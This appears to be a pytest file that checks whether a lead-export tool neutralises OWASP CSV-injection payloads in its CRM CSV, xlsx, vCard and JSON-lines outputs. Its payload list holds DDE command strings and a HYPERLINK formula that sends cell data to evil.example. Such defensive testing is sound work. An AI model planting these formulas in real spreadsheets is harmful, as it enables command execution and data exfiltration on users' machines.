"""OWASP CSV-injection payloads in every export format, each file read back by its consumer.

Payloads sit in the company name, the contact person, notes, products and the address of
test leads. Each produced file is opened the way its consumer opens it (openpyxl for xlsx,
the csv module with the profile's encoding and delimiter, vobject for vCard) and checked:
required columns present, values neutralised (not dropped), no formula, the unverified
marking on every row, E.164 phones intact. JSON lines are exempt from neutralising but
must give back exactly what went in.
"""

from __future__ import annotations

import csv
import re
from datetime import UTC, datetime
from pathlib import Path

import openpyxl
import pytest
import vobject

from exports.crm import load_profile, profile_names
from exports.dispatch import export_leads, format_names
from exports.jsonl import read_leads_jsonl, write_jsonl
from leadharvest.cli import main
from leadharvest.items import Email, Evidence, Lead, Person, Phone

PAYLOADS = [
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
    "\t=cmd|' /C calc'!A0",
    "\r=cmd|' /C calc'!A0",
    "＝cmd|' /C calc'!A0",
    "  =1+1",
]
PHONE = "+61740511234"
MOBILE = "+61412345678"
FETCHED = datetime(2024, 5, 1, 8, 30, tzinfo=UTC)
URL = "https://yp.practice.example/listing/{i}"

FORMULA_START = "=+-@＝＋－＠"
_ONE = r"\+\d{6,15}(?: ext\. \d{1,6})?(?: \([\w ]+\))?"
OUR_PHONE = re.compile(rf"^{_ONE}(?:; {_ONE})*$")
"""An E.164 number, or the lead sheet's list of them with their kinds."""
UNVERIFIED = ("unverified", "未经核实")


def _leads() -> list[Lead]:
    leads = []
    for i, payload in enumerate(PAYLOADS):
        leads.append(
            Lead(
                name=payload,
                lead_id=f"L{i:012d}",
                products=payload,
                address_raw=payload,
                notes=payload,
                country="AU",
                website=f"https://shop{i}.example",
                domain=f"shop{i}.example",
                grade="ABCD"[i % 4],
                score=90 - i,
                grade_reasons=[f"{'ABCD'[i % 4]}: {payload}"],
                phones=[Phone(raw="(07) 4051 1234", e164=PHONE, type="landline", valid=True)],
                emails=[
                    Email(raw=f"info@shop{i}.example", address=f"info@shop{i}.example", role=True)
                ],
                people=[
                    Person(
                        name=payload,
                        title=payload,
                        phones=[Phone(raw="0412 345 678", e164=MOBILE, type="mobile")],
                    )
                ],
                evidence=[
                    Evidence(
                        source="practice_yellowpages",
                        method="yellow_pages",
                        url=URL.format(i=i),
                        fetched_at=FETCHED,
                    )
                ],
                first_seen=FETCHED,
                last_seen=FETCHED,
            )
        )
    return leads


def _neutralised(payload: str) -> str:
    """What a payload must look like in a cell: the text kept, an apostrophe in front."""
    return "'" + payload


def _assert_safe(value: str) -> None:
    """No text a spreadsheet could evaluate: our E.164 phones, or no formula character first."""
    if not value or value.startswith("'") or OUR_PHONE.match(value):
        return
    assert not value.startswith(("\t", "\r", "\n")), repr(value)
    assert value.lstrip(" \u3000")[0] not in FORMULA_START, repr(value)


def _assert_unverified(row: list[str]) -> None:
    assert any(mark in cell.lower() for cell in row for mark in UNVERIFIED), row


def _read_csv(path: Path, fmt: str) -> list[list[str]]:
    profile = load_profile(fmt)
    encoding = "utf-8-sig" if profile.bom else profile.encoding
    with path.open(encoding=encoding, newline="") as fh:
        return list(csv.reader(fh, delimiter=profile.delimiter))


def _read_xlsx_rows(path: Path, sheet: str | None = None) -> list[list[str]]:
    wb = openpyxl.load_workbook(path)
    ws = wb[sheet] if sheet else wb.active
    cells = [c for row in ws.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    return [["" if v is None else str(v) for v in row] for row in ws.iter_rows(values_only=True)]


def test_every_format_is_covered() -> None:
    assert set(format_names()) == {"xlsx", "vcard", "jsonl", *profile_names()}
    assert set(profile_names()) >= {
        "hubspot",
        "salesforce",
        "zoho",
        "pipedrive",
        "odoo",
        "wukong",
        "csv",
    }


@pytest.mark.parametrize("fmt", [name for name in profile_names()])
def test_crm_profiles_neutralise_every_payload(fmt: str, tmp_path: Path) -> None:
    profile = load_profile(fmt)
    result = export_leads(_leads(), fmt, tmp_path / f"out{profile.extension}")
    assert result.skipped == []
    [path] = result.paths
    if profile.file_type == "xlsx":
        rows = _read_xlsx_rows(path)
        if profile.title_row:
            assert rows[0][0] == profile.title_row
            rows = rows[1:]
    else:
        rows = _read_csv(path, fmt)
    header, data = rows[0], rows[1:]
    assert header == profile.headers("en")
    assert len(data) == len(PAYLOADS)  # one named person per lead: one row each
    if profile.sheet_columns:
        company_header, required = "Company", ["Company", "Data status"]
    else:
        pairs = list(zip(profile.columns, header, strict=True))
        company_header = next(h for c, h in pairs if (c.kind, c.source) == ("field", "company"))
        required = [h for c, h in pairs if c.required]
    companies = set()
    for row in data:
        assert len(row) == len(header)
        for value in row:
            _assert_safe(value)
        _assert_unverified(row)
        record = dict(zip(header, row, strict=True))
        for col in required:
            assert record[col], (col, row)
        companies.add(record[company_header])
        phones = [v for v in row if OUR_PHONE.match(v)]
        assert phones, "every lead has a phone; it must go out as E.164"
        assert set(re.findall(r"\+\d+", " ".join(phones))) <= {PHONE, MOBILE}, phones
    # The payloads are kept as text, only made inert. CRM values are trimmed, so there the
    # tab / CR / spaces in front go and the formula after them is what gets neutralised;
    # the generic CSV keeps the lead sheet's text as it is.
    kept = [p if profile.sheet_columns else p.strip() for p in PAYLOADS]
    assert companies == {_neutralised(p) for p in kept}


def test_lead_sheet_xlsx_neutralises_every_payload(tmp_path: Path) -> None:
    result = export_leads(_leads(), "xlsx", tmp_path / "sheet.xlsx")
    rows = _read_xlsx_rows(result.paths[0], "Leads")
    header, data = rows[0], rows[1:]
    assert len(data) == len(PAYLOADS)
    for row in data:
        for value in row:
            _assert_safe(value)
        _assert_unverified(row)
    company = header.index("Company")
    assert {row[company] for row in data} == {_neutralised(p) for p in PAYLOADS}
    notes = header.index("Notes")
    assert {row[notes] for row in data} == {_neutralised(p) for p in PAYLOADS}
    phones = header.index("Phones")
    assert all(row[phones].startswith(f"{PHONE} (landline)") for row in data)


@pytest.mark.parametrize("version", ["4.0", "3.0"])
def test_vcard_neutralises_every_payload(version: str, tmp_path: Path) -> None:
    result = export_leads(_leads(), "vcard", tmp_path / "leads.vcf", vcard_version=version)
    text = result.paths[0].read_text(encoding="utf-8")
    cards = list(vobject.readComponents(text))
    assert len(cards) == len(PAYLOADS) == result.rows
    orgs = set()
    for card in cards:
        assert card.version.value == version
        org = card.org.value[0]
        orgs.add(org)
        for prop in ("fn", "org", "title", "note"):
            value = card.contents[prop][0].value
            value = value[0] if isinstance(value, list) else value
            _assert_safe(value)
        assert "Unverified" in card.note.value
        tels = [t.value for t in card.contents["tel"]]
        expected = {f"tel:{MOBILE}", f"tel:{PHONE}"} if version == "4.0" else {MOBILE, PHONE}
        assert set(tels) == expected
    # names are trimmed as in the CRM files (a CR inside a value: see test_exports_vcard)
    assert orgs == {_neutralised(p.strip()) for p in PAYLOADS}


def test_jsonl_keeps_every_payload_exactly(tmp_path: Path) -> None:
    leads = _leads()
    result = export_leads(leads, "jsonl", tmp_path / "leads.jsonl")
    back = read_leads_jsonl(result.paths[0])
    assert [lead.to_dict() for lead in back] == [lead.to_dict() for lead in leads]
    assert [lead.name for lead in back] == PAYLOADS
    assert [lead.people[0].name for lead in back] == PAYLOADS


@pytest.mark.parametrize("fmt", ["xlsx", "vcard", "jsonl", *profile_names()])
def test_export_command_writes_every_format(
    fmt: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    src = write_jsonl(_leads(), tmp_path / "in.jsonl")
    suffix = load_profile(fmt).extension if fmt in profile_names() else f".{fmt}"
    out = tmp_path / f"out{suffix}"
    with pytest.raises(SystemExit) as exit_info:
        main(["export", "--input", str(src), "--format", fmt, "-o", str(out)])
    captured = capsys.readouterr()
    assert exit_info.value.code in (0, None), captured.err
    assert f"wrote {len(PAYLOADS)} leads to {out}" in captured.out
    assert out.is_file() and out.stat().st_size > 0
